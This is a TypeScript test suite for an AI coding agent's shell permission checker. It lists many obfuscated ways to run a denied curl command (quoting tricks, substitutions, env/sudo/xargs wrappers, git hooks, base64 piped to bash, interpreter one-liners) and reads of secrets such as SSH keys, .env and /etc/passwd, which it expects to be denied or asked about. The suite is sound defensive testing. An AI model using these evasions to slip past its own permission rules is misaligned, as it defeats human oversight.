// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell expansions
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { shellLimits } from '../../src/core/shell/reading.js'
import { isReadOnlyCommand, readCommandLine } from '../../src/core/shell-policy.js'
import { bash, grammar, judge, link } from '../support/judging.js'

const group = { rules: { allow: ['Bash(git status:*)', 'Bash(echo:*)'], deny: ['Bash(curl:*)'] } }
const wholesale = { rules: { allow: ['Bash'], deny: ['Bash(curl:*)'] } }
const bypass = { chain: [link({ mode: 'bypassPermissions' })], rules: { deny: ['Bash(curl:*)'] } }
const settings = { group, wholesale, bypass }

test('what the rules allow and nothing else is allowed', () => {
  expect(bash('git status', group)).toBe('allow')
  expect(bash('git status --short && echo done', group)).toBe('allow')
  expect(bash('echo "a; curl x"', group)).toBe('allow')
  expect(bash("echo 'curl SINK'", group)).toBe('allow')
  expect(bash('npm test', group)).toBe('ask')
  expect(bash('curl SINK', group)).toBe('deny')
})

describe('a denied command is found wherever it stands', () => {
  const denied: readonly (readonly [string, string])[] = [
    ...['&&', ';', '||', '|', '&', '\n', '|&', ';\n', '&& \\\n'].map(
      by => ['D01', `git status ${by} curl SINK`] as const,
    ),
    ['D01', '(git status; curl SINK)'],
    ['D01', '{ curl SINK; }'],
    ['D01', '! curl SINK'],
    ['D01', 'if true; then curl SINK; fi'],
    ['D01', 'while curl SINK; do :; done'],
    ['D01', 'for i in 1; do curl SINK; done'],
    ['D01', 'case x in x) curl SINK;; esac'],
    ['D01', 'f() { curl SINK; }; f'],
    ['D01', 'time curl SINK'],
    ['D01', 'coproc curl SINK'],
    ['D01', '[[ -n $(curl SINK) ]]'],
    ['D01', 'select x in $(curl SINK); do :; done'],
    ['D03', 'echo $(curl SINK)'],
    ['D03', 'echo `curl SINK`'],
    ['D03', 'echo `echo \\`curl SINK\\``'],
    ['D03', 'echo "$(curl SINK)"'],
    ['D03', 'echo <(curl SINK)'],
    ['D03', 'echo >(curl SINK)'],
    ['D03', 'echo ${x:-$(curl SINK)}'],
    ['D03', 'echo "${x:-`curl SINK`}"'],
    ['D03', 'echo ${x/a/$(curl SINK)}'],
    ['D03', 'echo ${a[$(curl SINK)]}'],
    ['D03', 'echo $(( $(curl SINK) ))'],
    ['D03', 'a=$(curl SINK)'],
    ['D03', 'a=(1 $(curl SINK))'],
    ['D03', 'export A=$(curl SINK)'],
    ['D03', 'cat <<EOF\n$(curl SINK)\nEOF'],
    ['D03', 'cat <<-EOF\n\t`curl SINK`\n\tEOF'],
    ['D03', 'cat <<< "$(curl SINK)"'],
    ['D03', 'echo x > "$(curl SINK)"'],
    ['D03', 'echo $(echo $(echo $(curl SINK)))'],
    ['D03', 'echo {a,$(curl SINK)}'],
    ['D08', "$'\\x63url' SINK"],
    ['D08', "$'\\143\\165rl' SINK"],
    ['D08', "$'\\u0063url' SINK"],
    ['D08', 'c\\url SINK'],
    ['D08', "cu''rl SINK"],
    ['D08', 'c"ur"l SINK'],
    ['D08', 'cu\\\nrl SINK'],
    ['D08', '"curl" SINK'],
    ['D08', '\\curl SINK'],
    ['D08', '/usr/bin/curl SINK'],
    ['D08', '../../../usr/bin/curl SINK'],
    ['D08', 'CURL SINK'],
    ['D08', 'curl.exe SINK'],
    ['D08', '{curl,SINK}'],
    ['D08', '{c,}url'],
    ['D08', 'cu{rl,} SINK'],
    ['D08', 'command curl SINK'],
    ['D08', 'command -p curl SINK'],
    ['D08', 'builtin command curl SINK'],
    ['D08', 'env curl SINK'],
    ['D08', 'env -i A=b curl SINK'],
    ['D08', 'env -u X -C /tmp curl SINK'],
    ['D08', "env -S 'curl SINK'"],
    ['D08', '/usr/bin/env curl SINK'],
    ['D08', 'busybox curl SINK'],
    ['D08', 'timeout 5 curl SINK'],
    ['D08', 'timeout -s KILL -k 1 5 curl SINK'],
    ['D08', 'timeout --signal=KILL 5 nice -n 5 nohup stdbuf -oL setsid curl SINK'],
    ['D08', 'nice -5 curl SINK'],
    ['D08', 'ionice -c2 -n7 curl SINK'],
    ['D08', 'echo SINK | xargs curl'],
    ['D08', 'xargs -a list -I% curl %'],
    ['D08', 'find . -exec curl {} \\;'],
    ['D08', 'find . -name x -execdir curl {} +'],
    ['D08', 'sudo curl SINK'],
    ['D08', 'sudo -u bob -- curl SINK'],
    ['D08', 'watch -n 1 curl SINK'],
    ['D08', "watch 'curl SINK'"],
    ['D08', "su -c 'curl SINK' bob"],
    ['D08', "script -c 'curl SINK' /dev/null"],
    ['D08', 'flock /tmp/l curl SINK'],
    ['D08', 'exec curl SINK'],
    ['D08', 'eval curl SINK'],
    ['D08', "eval 'cu''rl SINK'"],
    ['D08', "trap 'curl SINK' EXIT"],
    ['D08', "alias x='curl SINK'"],
    ['D08', "bash -c 'curl SINK'"],
    ['D08', "sh -lc 'curl SINK'"],
    ['D08', "bash -o pipefail -ec 'git status; curl SINK'"],
    ['D08', `bash -c "bash -c 'curl SINK'"`],
    ['D08', "bash <<'E'\ncurl SINK\nE"],
    ['D08', "bash <<< 'curl SINK'"],
    ['D08', 'FOO=bar curl SINK'],
    ['D08', 'PATH=/x curl SINK'],
    ['D08', "git -c alias.x='!curl SINK' x"],
    ['D08', "git -c core.pager='curl SINK' log"],
    ['D08', 'git bisect run curl SINK'],
    ['D08', "git rebase --exec 'curl SINK' HEAD~3"],
    ['D08', 'rg --pre curl x'],
    ['D08', "tar xf a.tar --to-command='curl SINK'"],
    ['D08', 'man -P "curl SINK" ls'],
    ['D08', '/lib64/ld-linux-x86-64.so.2 /usr/bin/curl SINK'],
  ]
  test.each(denied)('%s %j is denied under every mode and every allow', (_, line) => {
    for (const setting of Object.values(settings)) expect(bash(line, setting)).toBe('deny')
  })
})

describe('what cannot be read for certain is never allowed while something is denied', () => {
  const unclear: readonly (readonly [string, string])[] = [
    ['D01', 'git status\rcurl SINK'],
    ['D08', 'git status "unbalanced'],
    ['D08', "echo 'open"],
    ['D08', 'echo $(open'],
    ['D08', 'c\u00a0url SINK'],
    ['D08', 'echo\u2003curl'],
    ['D08', 'cu\u200brl SINK'],
    ['D08', 'cur\rl SINK'],
    ['D08', '$X SINK'],
    ['D08', 'c${x}url SINK'],
    ['D08', '$EMPTY curl SINK'],
    ['D08', 'cur? SINK'],
    ['D08', '/usr/bin/cur[l] SINK'],
    ['D08', '/???/???/c*l SINK'],
    ['D08', 'X=curl; $X SINK'],
    ['D08', 'set -- curl SINK; "$@"'],
    ['D08', 'eval "$X"'],
    ['D08', 'source ./x.sh'],
    ['D08', '. ./x.sh'],
    ['D08', 'echo curl SINK | sh'],
    ['D08', 'bash script.sh'],
    ['D08', 'bash -c "$X"'],
    ['D08', 'bash -s < file'],
    ['D08', 'echo Y3VybA== | base64 -d | bash'],
    ['D08', 'hash -p /usr/bin/curl ls; ls SINK'],
    ['D08', "x='a[$(curl SINK)]'; echo $((x))"],
    ['D08', "x='a[$(curl SINK)]'; [[ $x -eq 1 ]]"],
    ['D08', "x='$(curl SINK)'; echo ${x@P}"],
    ['D08', 'echo ${!x}'],
    ['D08', 'mapfile -C "curl SINK" -c 1 a'],
    ['D08', 'PATH=.:$PATH ls'],
    ['D08', 'LD_PRELOAD=./x.so ls'],
    ['D08', 'export NODE_OPTIONS=--require=./x.js'],
    ['D08', 'GIT_EXTERNAL_DIFF=./x git diff'],
    ['D08', "PROMPT_COMMAND='curl SINK'"],
    ['D08', 'BASH_ENV=./x bash -c true'],
    ['D08', 'zsh -c "=curl SINK"'],
    ['D11', 'python3 -c "import os; os.system(\'curl SINK\')"'],
    ['D11', "node -e \"require('child_process').execSync('curl SINK')\""],
    ['D11', "perl -e 'exec q(curl SINK)'"],
    ['D11', 'awk \'BEGIN { system("curl SINK") }\''],
    ['D08', 'unknown-launcher --opt curl SINK'],
  ]
  test.each(unclear)('%s %j is not allowed', (_, line) => {
    for (const [name, setting] of Object.entries(settings)) expect([name, bash(line, setting)]).not.toContain('allow')
  })
})

test.each([49, 50, 51, 200])('D02 %i harmless commands before it do not hide a denied one', count => {
  for (const setting of Object.values(settings))
    expect(bash(`${'true;'.repeat(count)} curl SINK`, setting)).toBe('deny')
})

test('D02 past the limit the answer is deny, never ask or allow', () => {
  const verdict = judge(
    'Bash',
    { command: 'true;'.repeat(shellLimits.commands + 1) },
    { chain: [link({ mode: 'bypassPermissions' })] },
  )
  expect(verdict).toMatchObject({ decision: 'deny', rule: 'shell-limit' })
})

describe('D04 a redirection is a write of its target', () => {
  test.each([
    'echo x > ~/.bashrc',
    'echo x >> ~/.bashrc',
    'echo x >| ~/.bashrc',
    'echo x >& ~/.bashrc',
    'echo x &> ~/.bashrc',
    'echo x &>> ~/.bashrc',
    'echo x 1<> ~/.bashrc',
    'echo x > $HOME/.bashrc',
    'echo x >~/.bashrc 2>&1',
    '> ~/.bashrc echo x',
    'echo x > /etc/cron.d/x',
    'echo x > ../outside',
    'echo x > link/new',
    'cd / && echo x > tmp/x',
    'echo x > "$F"',
    'echo x > /dev/tcp/1.2.3.4/80',
    'echo x >! ~/.bashrc',
    'echo x | tee ~/.bashrc',
    'git status > src/a.ts',
    '{ echo x; } > src/a.ts',
    'f() { echo x; } > src/a.ts; f',
  ])('D04 %j is not allowed by rules about the command', line => {
    expect(bash(line, group)).toBe('ask')
  })
  test.each([
    'echo x > .git/hooks/pre-commit',
    'echo x >> .git/config',
    'echo x > .offshoot/settings.json',
    'echo x > .GIT/Hooks/a',
    'cd .git && echo x > hooks/a',
    'tee .git/hooks/pre-commit',
    'cp x .git/hooks/pre-commit',
    'sed -i s/a/b/ .mcp.json',
    'dd of=.git/config',
    'ln -s x .claude/settings.json',
    'cat /home/u/.config/offshoot/auth.json',
    'tar cf x.tar ~/.local/state/offshoot',
  ])('D04 %j is denied in every mode', line => {
    expect(bash(line, { rules: { allow: ['Bash'] } })).toBe('deny')
    expect(bash(line, { chain: [link({ mode: 'bypassPermissions' })] })).toBe('deny')
  })
  test('D04 a deny rule on a path binds commands as well', () => {
    const setting = { rules: { allow: ['Bash'], deny: ['Edit(./locked/**)', 'Read(./private/**)'] } }
    for (const line of [
      'echo x > locked/a',
      'cp a locked/b',
      'cat private/a',
      'head -c9 < private/a',
      'curl -d @private/a x',
      'cat private/*',
      'cat $PWD/private/a',
      'cd private && cat a',
      'cat ./src/../private/a',
    ])
      expect([line, bash(line, setting)]).toEqual([line, 'deny'])
    expect(bash('cat priv*/a', setting)).toBe('ask')
  })
  test('where edits are accepted a redirection inside the roots needs no asking', () => {
    const accepting = { chain: [link({ mode: 'acceptEdits' })] }
    expect(bash('echo x > src/a.ts', accepting)).toBe('allow')
    expect(bash('echo x > .vscode/tasks.json', accepting)).toBe('ask')
    expect(bash('echo x > ../a.ts', accepting)).toBe('ask')
  })
  test('harmless targets need nothing', () => {
    expect(bash('git status > /dev/null 2>&1', group)).toBe('allow')
    expect(bash('git status 2>&-', group)).toBe('allow')
  })
})

describe('D05 options that run or write something are not read-only', () => {
  test.each([
    'find . -exec touch CANARY ;',
    "find . -name '*.ts' -exec cat {} +",
    'find . -delete',
    'find . -fprint out',
    'find . -fprintf out %p',
    'find . -fls out',
    'find . -ok rm {} ;',
    'rg --pre sh x',
    'rg --pre=sh x',
    'rg --search-zip x',
    'rg --hidden SECRET',
    'rg -uuu SECRET',
    "git -c core.pager='touch CANARY' log",
    'git --exec-path=. status',
    'git --git-dir=evil status',
    'git -C sub status',
    'cd sub && git status',
    'git -p log',
    'git grep -O',
    'git grep -Otouch x',
    'git grep --open-files-in-pager=touch x',
    'git diff --output=x',
    'git diff --ext-diff',
    'git diff --textconv',
    'git diff --no-index /dev/null x',
    'git log --output=x',
    'git show --output=x',
    'git branch new',
    'git branch -D old',
    'git branch -m a b',
    'git tag v1',
    'git remote add x y',
    'git remote show origin',
    'git reflog expire --all',
    'git stash',
    'git stash drop',
    'git worktree add x',
    'git config core.pager x',
    'git fetch',
    'git archive HEAD',
    'sort -o out in',
    'sort -nro out in',
    'sort --output=out in',
    'sort --compress-program=sh in',
    'sort -T /tmp in',
    "sed 'w f' in",
    "sed -n 'w f' in",
    "sed -n '1w f' in",
    "sed -n '1,5p;w f' in",
    'sed -i s/a/b/ in',
    "sed 'e touch CANARY' in",
    "sed 's/a/b/e' in",
    "sed 's/a/b/w f' in",
    "sed -n -e p -e 'w f' in",
    'sed -f script in',
    'sed --in-place p in',
    'xargs touch',
    'tar xf a --to-command=touch',
    'man -P touch ls',
    'less x',
    'awk 1 x',
    'uniq in out',
    'xxd -r in out',
    'xxd in out',
    'tree -o out',
    'date -s 2020-01-01',
    'date 010100002020',
    'hostname evil',
    'printf -v PATH x',
    'env',
    'printenv',
    'test -v "a[$(touch CANARY)]"',
    'ls $(touch CANARY)',
    'ls *',
    'grep x *',
    'cat $X',
    'jq -f script in',
    'file -C -m magic',
    'tail -f log',
    'diff --to-file=x y',
    'strings -T x',
    './ls',
    'sub/cat x',
    'FOO=1 ls',
    'ls; rm x',
    'ls > out',
    'ls | tee out',
    'declare -n x=PATH',
    'declare -i x=y',
  ])('D05 %j is not proven read-only', line => {
    const reading = readCommandLine(line, { grammar, cwd: '/w/app', home: '/home/u' })
    expect(isReadOnlyCommand(reading)).toBe(false)
    expect(bash(line)).not.toBe('allow')
    expect(bash(line, { chain: [link({ mode: 'plan', approvalMode: 'suppress' })] })).toBe('deny')
  })
})

test.each([
  'ls -la src',
  'ls -- src/*',
  'set -e; ls',
  'cat README.md',
  'cat ./src/a.ts | head -20 | wc -l',
  'grep -rn "foo bar" src',
  "grep -E 'a|b' -A3 src/a.ts",
  'rg -n --type ts foo src',
  'rg --files src',
  "find . -name '*.ts' -type f",
  'find src \\( -name a -o -name b \\) -print',
  'git status',
  'git status --short',
  'git log --oneline -n 5',
  'git log -5 --format="%h %s" -- src',
  'git diff HEAD~1 -- src/a.ts',
  'git diff --stat main...dev',
  'git show HEAD:src/a.ts',
  'git branch',
  'git branch -a',
  'git branch --list "feat/*"',
  'git remote -v',
  'git stash list',
  'git blame -L 1,5 src/a.ts',
  'git rev-parse --abbrev-ref HEAD',
  "sed -n '1,20p' src/a.ts",
  "sed -n '/start/,/end/p' src/a.ts",
  'sort -u names.txt | uniq -c | sort -rn',
  'wc -l src/*.ts',
  'echo "$HOME" $x',
  'echo $((1 + 2))',
  'date +%s',
  'pwd && whoami',
  'test -f x && echo yes || echo no',
  '[ -d src ]',
  'timeout 5 git status',
  'time ls',
  'LC_ALL=C sort names.txt',
  "bash -c 'git status && ls'",
  'for f in a b; do echo $f; done',
  'if [ -f x ]; then cat x; fi',
  'cd src && ls',
  'node --version',
  'command -v git',
  'set -euo pipefail; ls',
  'ls 2>/dev/null',
  'printf \'%s\\n\' "$x"',
  'diff -u a.txt b.txt',
  'jq -r .name package.json',
])('%j is proven read-only and needs no asking, also for a read-only agent', line => {
  const reading = readCommandLine(line, { grammar, cwd: '/w/app', home: '/home/u' })
  expect(isReadOnlyCommand(reading)).toBe(true)
  expect(bash(line)).toBe('allow')
  expect(bash(line, { chain: [link(), link({ agent: 'Explore', mode: 'plan', approvalMode: 'suppress' })] })).toBe(
    'allow',
  )
})

test.each([
  'cat ~/.ssh/id_rsa',
  'cat $HOME/.ssh/id_rsa',
  'cat /etc/passwd',
  'cat ../other/x',
  'cat .env',
  'head -1 ./.env.local',
  'grep KEY .env',
  'cat .en?',
  'cat ./.e*',
  'cat .[e]nv',
  'cat {.env,README.md}',
  'cat src/../.env',
  'cat < .env',
  'cat link/passwd',
  'cat notes.md',
  'cat ./n*',
  'cat ./*.pem',
  'cd / && cat etc/hostname',
  'cd .. && ls',
  'cd && cat x',
  'cd "$X" && cat x',
  'cd - && cat x',
  'for i in 1 2; do cd ..; cat x; done',
  'cat .*/x',
  'cat */../../x',
  'ls /',
  'find / -name x',
  'git show HEAD:.env',
  'git diff -- .env',
  'git log -p .env',
  'rg x /etc',
  'rg --files /etc',
  'rg -f /etc/passwd x',
  'realpath --relative-to=/etc x',
  'diff a /etc/passwd',
  'cat /proc/self/environ',
  'cat ~bob/x',
  'cat ~+/../x',
  'pushd /etc && cat passwd',
  "bash -c 'cd / && cat etc/x'",
  'cat link/../etc/x',
  'cd link && cat ../x',
  'cat src/*/../x',
  'cd -P link/.. && cat x',
  'cat --unknown /etc/passwd',
])('%j reads outside the roots or a secret, so it asks', line => {
  expect(bash(line)).toBe('ask')
  expect(bash(line, { rules: { allow: ['Bash(cat:*)', 'Bash(head:*)', 'Bash(cd:*)'] } })).toBe('ask')
  expect(bash(line, { chain: [link({ approvalMode: 'suppress' })] })).toBe('deny')
})

test('a rule that spells the command out reaches what a wildcard does not', () => {
  expect(bash('cat /etc/hosts', { rules: { allow: ['Bash(cat /etc/hosts)'] } })).toBe('allow')
  expect(bash('cat /etc/hosts > ../x', { rules: { allow: ['Bash(cat /etc/hosts > ../x)'] } })).toBe('allow')
  expect(bash('cat /etc/passwd', { rules: { allow: ['Bash(cat /etc/hosts)'] } })).toBe('ask')
  expect(bash('rm *', { rules: { allow: ['Bash(rm \\*)'] } })).toBe('allow')
  expect(bash('rm a', { rules: { allow: ['Bash(rm \\*)'] } })).toBe('ask')
})

test.each([
  ['Bash(npm run *)', 'npm run build', 'allow'],
  ['Bash(npm run *)', 'npm run', 'allow'],
  ['Bash(npm run *)', 'npm running', 'ask'],
  ['Bash(npm run test:*)', 'npm run test:unit', 'allow'],
  ['Bash(git:*)', 'git push', 'allow'],
  ['Bash(git:*)', 'gitk', 'ask'],
  ['Bash(git *)', 'git', 'allow'],
  ['Bash(npm test)', 'npm test -- x', 'ask'],
  ['Bash(* --version)', 'foo --version', 'allow'],
  ['Bash(git commit -m "a b")', 'git commit -m "a b"', 'allow'],
  ['Bash(git commit:*)', "git commit -m 'x && curl y'", 'allow'],
  ['Bash(git status:*)', "'git status' x", 'ask'],
  ['Bash(git status:*)', "git 'status x'", 'ask'],
  ['Bash(git status:*)', './git status', 'ask'],
  ['Bash(git status:*)', '/tmp/git status', 'ask'],
  ['Bash(npm test:*)', '/usr/bin/npm test', 'allow'],
  ['Bash(npm test:*)', 'timeout 60 npm test', 'allow'],
  ['Bash(npm test:*)', 'cd src && npm test', 'allow'],
  ['Bash(npm test:*)', 'FOO=1 npm test', 'allow'],
  ['Bash(npm test:*)', 'NODE_OPTIONS=x npm test', 'ask'],
  ['Bash(npm test:*)', 'npm test $X', 'allow'],
  ['Bash(npm test x)', 'npm test $X', 'ask'],
  ['Bash(timeout:*)', 'timeout 5 rm x', 'ask'],
  ['Bash(xargs:*)', 'ls | xargs rm', 'ask'],
  ['Bash(find:*)', 'find . -exec rm {} ;', 'ask'],
  ['Bash(sudo apt *)', 'sudo apt update', 'allow'],
  ['Bash(apt *)', 'sudo apt update', 'ask'],
] as const)('allow %s: %j → %s', (text, line, expected) => {
  expect(bash(line, { rules: { allow: [text] } })).toBe(expected)
})

test('P21 a line is judged part by part', () => {
  const setting = { rules: { allow: ['Bash(git status:*)'] } }
  expect(bash('cd src && git status', setting)).toBe('allow')
  expect(bash('git status; rm x', setting)).toBe('ask')
  expect(bash('FOO=bar git status', setting)).toBe('allow')
  expect(bash("bash -c 'git status'", setting)).toBe('allow')
  expect(bash('git status $(rm x)', setting)).toBe('ask')
  expect(bash('git status > out', setting)).toBe('ask')
})

describe('D10 size costs nothing', () => {
  const hostile = [
    'a '.repeat(50_000),
    'curl x;'.repeat(15_000),
    '$('.repeat(500_000),
    '{a,'.repeat(300_000),
    "'".repeat(100_000),
    '`'.repeat(100_000),
    `echo ${'a'.repeat(1_000_000)}!`,
    '((((('.repeat(20_000),
    '\\'.repeat(100_000),
  ]
  test.each(hostile.map((line, index) => [index, line] as const))(
    'D10 hostile text %i is denied for its size',
    (_, line) => {
      expect(judge('Bash', { command: line }, wholesale)).toMatchObject({ decision: 'deny', rule: 'shell-limit' })
    },
  )
})

test('random text never throws and is never allowed when it runs a denied command', () => {
  const pieces = fc.constantFrom(
    ...[
      'curl',
      'SINK',
      ' ',
      ' ',
      ';',
      '&&',
      '||',
      '|',
      '&',
      '\n',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '{',
      '}',
      ',',
      '$',
      '${',
      '}',
      '<(',
      '>',
      '>>',
      '<<E',
      'E',
      '\nE\n',
      '#',
      '=',
      'x',
      'echo ',
      'git status',
      'bash -c ',
      'env ',
      'eval ',
      'if ',
      'then ',
      'fi',
      'for i in ',
      'do ',
      'done',
      '(',
      '((',
      '))',
      '[[',
      ']]',
      '*',
      '?',
      '~',
      '/',
      "$'",
      '\r',
      '\t',
    ],
  )
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 30 }), fc.array(pieces, { maxLength: 8 }), (before, after) => {
      const line = before.join('')
      bash(line, wholesale)
      const ran = `${line}\ncurl SINK ${after.join('')}`
      if (isComplete(line)) for (const setting of Object.values(settings)) expect(bash(ran, setting)).not.toBe('allow')
    }),
    { numRuns: 600 },
  )
})

/** Nothing open that would swallow the next line, by the parser's own account. */
function isComplete(line: string): boolean {
  const root = grammar.parse(`${line}\nmarker`) as unknown as {
    errors?: readonly unknown[]
    commands: readonly { command: { name?: { text: string } } }[]
  }
  return !root.errors?.length && root.commands.at(-1)?.command.name?.text === 'marker'
}
